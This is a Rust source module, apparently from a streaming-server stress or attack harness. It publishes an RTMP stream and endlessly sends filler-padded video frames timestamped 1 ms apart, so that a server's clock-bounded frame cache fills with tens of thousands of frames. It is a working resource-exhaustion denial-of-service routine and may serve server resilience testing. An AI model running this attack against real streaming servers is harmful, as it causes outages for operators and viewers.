//! Frames whose timestamps are 1 ms apart, sent as fast as the attack may.
//!
//! A cache that is bounded by the publisher's clock keeps 30 000 frames in 30 seconds of it.

use super::context::Context;
use super::error::AttackError;
use super::media::{Clip, SLICE, filler, inter_frame};
use super::rtmp::{RtmpPeer, VIDEO};

/// Bytes of each message, nearly all of them filler.
const SIZE: usize = 1000;

/// Frames that are sent at once.
const BATCH: u32 = 32;

pub(super) async fn run(context: &Context) -> Result<(), AttackError> {
    let clip = Clip::read(context)?;
    let frame = inter_frame(&[SLICE, &filler(SIZE)]);
    let mut publisher = RtmpPeer::publish(context, 0, "tiny").await?;
    publisher.send(context, VIDEO, 0, clip.video_header).await?;
    publisher.send(context, VIDEO, 0, clip.keyframe).await?;
    let mut timestamp = 0;
    loop {
        for _ in 0..BATCH {
            timestamp += 1;
            publisher.push(VIDEO, timestamp, frame.clone());
        }
        publisher.flush(context).await?;
        context.add("frames", f64::from(BATCH));
    }
}
